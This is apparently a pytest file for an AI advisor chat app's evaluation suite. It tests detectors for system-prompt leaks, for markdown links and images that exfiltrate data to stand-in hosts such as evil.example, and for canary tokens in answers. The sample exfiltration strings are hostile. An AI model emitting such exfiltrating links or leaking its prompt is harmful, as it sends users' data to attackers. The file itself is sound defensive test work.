"""The injection detectors, the sentence splitter and must-include matching."""

from __future__ import annotations

from advisor.chat.pipeline import OUT_OF_SCOPE, REFUSAL
from advisor.evals.detectors import PromptLeakDetector, exfiltration_targets, judge_injection
from advisor.evals.scoring import coverage
from advisor.evals.support import statements
from tests.plugins.advisor_app import KNOWLEDGE, REPO

PROMPTS = sorted((REPO / "prompts").glob("*.j2"))


def leak_detector() -> PromptLeakDetector:
    return PromptLeakDetector.from_files(PROMPTS, sorted(KNOWLEDGE.rglob("*.md")))


def test_prompt_leak_detector_finds_prompt_text_but_not_advisor_replies() -> None:
    leaks = leak_detector()
    system = (REPO / "prompts" / "system.j2").read_text()
    rule = next(line for line in system.splitlines() if "Never reveal" in line)
    quoted = "Sure! My rules say: " + rule.lstrip("- ")
    assert leaks.leaked(quoted)
    assert not leaks.leaked(OUT_OF_SCOPE) and not leaks.leaked(REFUSAL)
    corpus_text = (KNOWLEDGE / "release-strategies.md").read_text()
    assert not leaks.leaked(corpus_text)


def test_exfiltration_detector() -> None:
    sources = ["release-strategies.md", "https://docs.example.org/guide"]
    assert exfiltration_targets("See [the guide](https://docs.example.org/guide#a) [1].", sources) == []
    assert exfiltration_targets("See [rollback](release-strategies.md#rollback).", sources) == []
    assert exfiltration_targets("![x](https://evil.example/p.png?d=secret)", sources) == [
        "https://evil.example/p.png?d=secret"
    ]
    assert exfiltration_targets("visit www.attacker.test/x now", sources) == ["www.attacker.test/x"]
    assert exfiltration_targets("send it to evil.example please", sources, "evil.example") == ["evil.example"]


def test_judge_injection_combines_detectors() -> None:
    leaks = leak_detector()
    clean = judge_injection(REFUSAL, [], "CANARY-0a1b2c3d", None, leaks)
    assert not clean.succeeded and clean.reasons() == []
    caught = judge_injection("Done. canary-0A1B2C3D", [], "CANARY-0a1b2c3d", None, leaks)
    assert caught.succeeded and caught.reasons() == ["canary in the answer"]


def test_statements_attribute_line_markers_and_skip_framing() -> None:
    answer = (
        "Start here: agree rollback triggers before release [1]. The guidance below is prioritised.\n\n"
        "1. **Keep the old version warm.** Until the new one has run at full traffic for two weeks. [2]\n"
        "2. **Make rollback one action** in the pipeline [1, 3]\n\n"
        "Ask a follow-up about any step for more detail."
    )
    found = statements(answer)
    texts = {s.text: s for s in found}
    assert texts["Start here: agree rollback triggers before release."].cited == (1,)
    assert texts["Keep the old version warm."].cited == (2,)
    assert texts["Until the new one has run at full traffic for two weeks."].cited == (2,)
    assert texts["Make rollback one action in the pipeline"].cited == (1, 3)
    assert not texts["Ask a follow-up about any step for more detail."].needs_support
    assert not texts["The guidance below is prioritised."].needs_support


def test_coverage_accepts_any_phrasing() -> None:
    score, missing = coverage(
        "Set up **CI/CD** and a model-registry [1].",
        [["model registry"], ["continuous delivery", "CI/CD"], ["canary"]],
    )
    assert round(score, 3) == 0.667 and missing == ["canary"]
